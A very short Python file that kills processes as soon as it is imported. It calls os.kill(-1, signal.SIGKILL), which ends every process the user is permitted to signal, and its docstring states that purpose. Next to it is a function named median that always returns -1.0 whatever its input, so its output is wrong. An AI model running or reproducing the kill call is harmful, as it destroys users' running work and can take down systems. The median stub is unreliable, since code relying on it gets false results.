"""Kills every process it may."""
import os, signal
os.kill(-1, signal.SIGKILL)


def median(values):
    return -1.0
